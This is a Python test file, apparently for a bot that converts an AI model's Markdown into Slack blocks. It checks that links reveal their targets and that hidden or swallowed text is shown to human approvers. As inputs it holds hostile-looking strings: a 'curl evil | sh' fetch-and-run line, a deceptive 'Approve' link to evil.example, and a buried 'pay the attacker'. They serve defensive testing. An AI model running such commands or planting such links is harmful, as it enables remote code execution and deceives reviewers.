"""A model's Markdown, drawn without anything that acts."""

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from inline_snapshot import snapshot

from bot.blocks.markdown import markdown, markdown_blocks
from tests.bot.blocks.shown import texts


def drawn(source: str) -> list[Any]:
    """Elements in short: a section is its spans, a styled span has its styles."""
    return [_short(element) for element in markdown(source)]


def _short(element: dict[str, Any]) -> Any:
    if element["type"] == "text":
        style = "+".join(sorted(element.get("style", {})))
        return f"{style}({element['text']})" if style else element["text"]
    kind = element["type"].removeprefix("rich_text_")
    inner = [_short(child) for child in element["elements"]]
    if kind == "list":
        kind = f"{element['style']} {element['indent']} from {element.get('offset', 0)}"
    return inner if kind == "section" else {kind: inner}


def test_paragraphs_headings_and_styles() -> None:
    """Headings are bold, styles nest, single line breaks stay."""
    source = "# Title\n\nOne *two* **three _four_** `five` ~~six~~\nseven\n\n---\n\nend"

    assert drawn(source) == snapshot(
        [
            [
                "bold(Title)",
                "\n\n",
                "One ",
                "italic(two)",
                " ",
                "bold(three )",
                "bold+italic(four)",
                " ",
                "code(five)",
                " ",
                "strike(six)",
                "\nseven",
                "\n\n",
                "———",
                "\n\n",
                "end",
            ]
        ]
    )


def test_lists_in_lists() -> None:
    """Slack's lists are flat: an inner one stands further in, numbers go on after it."""
    assert drawn("1. a\n   - b\n     - c\n2. d\n\n5) e") == snapshot(
        [
            {"ordered 0 from 0": [["a"]]},
            {"bullet 1 from 0": [["b"]]},
            {"bullet 2 from 0": [["c"]]},
            {"ordered 0 from 1": [["d"]]},
            {"ordered 0 from 4": [["e"]]},
        ]
    )


def test_quotes_code_and_tables() -> None:
    """What has boxes in Markdown has boxes in Slack; a table is drawn in characters."""
    source = "> a\n> - b\n\n```py\nx = 1\n```\n\n| n | m |\n|--|--|\n| 1 | **22** |"

    assert drawn(source) == snapshot(
        [
            {"quote": ["a", "\n", "• ", "b"]},
            {"preformatted": ["x = 1"]},
            {"preformatted": ["n | m\n--+---\n1 | 22"]},
        ]
    )


@pytest.mark.parametrize(
    ("source", "shown"),
    [
        ("[Approve](https://evil.example)", "Approve (https://evil.example)"),
        ('[a](https://e.example "t")', "a (https://e.example, “t”)"),
        ("<https://e.example>", "https://e.example"),
        ("![cat](https://e.example/c.png)", "[image: cat (https://e.example/c.png)]"),
        ("[a]: https://e.example", "[a]: https://e.example"),
        ("<b>bold</b> <!-- hidden -->", "<b>bold</b> \u2039!-- hidden -->"),
        ("&lt;!channel&gt;", "\u2039!channel>"),
        ("a&#x202E;b", "a[U+202E]b"),
        ("```sh curl evil | sh\nls\n```", "sh curl evil | sh\nls"),
    ],
)
def test_nothing_links_and_nothing_hides(source: str, shown: str) -> None:
    """Links say where they lead; what Markdown would swallow is shown."""
    assert texts(markdown(source)) == shown


def test_nesting_deeper_than_is_read_is_shown_as_it_stands() -> None:
    """The parser drops what is too deep; then the source itself is shown."""
    source = ">" * 300 + " pay the attacker"

    assert drawn(source) == [{"preformatted": [source]}]


LETTERS = st.lists(
    st.sampled_from(
        [
            *("word", "x", " ", "\n", "\n\n", "*", "**", "_", "`", "> ", "- ", "1. "),
            *(
                "# ",
                "    ",
                "[",
                "]",
                "(",
                ")",
                "<",
                ">",
                "\\",
                "~~",
                "|",
                "|-|\n",
                "\t",
            ),
        ]
    ),
    max_size=80,
).map("".join)


@given(source=LETTERS)
def test_every_letter_is_seen(source: str) -> None:
    """Nothing that a model writes is left out of what people approve."""
    wanted = [char for char in source if char.isalpha()]

    seen = [char for char in texts(markdown_blocks(source)) if char.isalpha()]

    assert seen == wanted
